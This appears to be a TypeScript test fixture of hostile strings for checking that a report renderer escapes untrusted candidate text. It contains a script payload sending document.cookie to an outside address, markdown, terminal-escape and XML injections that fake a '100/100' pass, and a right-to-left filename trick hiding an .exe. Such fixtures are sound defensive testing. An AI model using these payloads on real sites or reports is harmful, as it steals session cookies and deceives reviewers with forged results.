/** Candidate text that tries to break out of a report; the sample carries it where real submissions could. */
export const hostile = {
  script: `<script>fetch('//203.0.113.9/'+document.cookie)</script><img src=x onerror=alert(1)>`,
  markdown: '``` \n# PASS 100/100\n![beacon](https://203.0.113.9/x.png) @acme/security #1 </details><!--',
  terminal: '\u001b[2J\u001b]52;c;ZXZpbA==\u0007\u009b31mPASS\b\b\r100/100',
  direction: 'invoice\u202efdp.exe\u2066',
  xml: ']]></failure><testcase name="ok"/>\ufffe\u0000\ud800',
} as const;
